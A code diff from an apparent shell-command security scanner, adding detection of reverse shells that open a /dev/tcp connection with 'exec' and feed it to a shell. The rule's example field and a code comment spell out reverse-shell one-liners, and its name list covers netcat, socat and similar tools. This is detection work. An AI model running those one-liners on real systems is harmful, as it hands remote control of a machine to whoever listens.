@@ -268,12 +268,23 @@ var executionCommands = []suspicion{
 		},
 	},
 	{
-		id: "shell line", names: append([]string{"nc", "ncat", "netcat", "nc.traditional", "socat", "openssl", "telnet", "awk", "gawk", "mawk"}, append(pythons, shellNames...)...),
+		id: "shell line", names: append([]string{"exec", "nc", "ncat", "netcat", "nc.traditional", "socat", "openssl", "telnet", "awk", "gawk", "mawk"}, append(pythons, shellNames...)...),
 		example: "bash -i >& /dev/tcp/HOST/PORT 0>&1", severity: finding.SeverityHigh,
 		what: "gives a shell to whoever is at the other end of a connection",
 		match: func(l *line, c *command.Command) bool {
 			switch {
 			case c.Interpreter != "":
+				return false
+			case c.Name == "exec":
+				// exec 5<>/dev/tcp/HOST/PORT; … sh <&5
+				if c.Operand(0) != "" || len(c.Redirects) == 0 || !strings.HasPrefix(c.Redirects[0].Path, "/dev/tcp/") {
+					return false
+				}
+				for i := range l.commands {
+					if d := &l.commands[i]; d.Nested && command.Shell(d.Name) && d.Interpreter == "" && d.Operand(0) == "" {
+						return true
+					}
+				}
 				return false
 			case c.Name == "nc" || c.Name == "ncat" || c.Name == "netcat" || c.Name == "nc.traditional":
 				return (c.Flag('e', "exec", "sh-exec") || c.Flag('c', "sh-exec")) && (c.Contains("sh") || c.Contains("cmd") || c.Contains("python"))
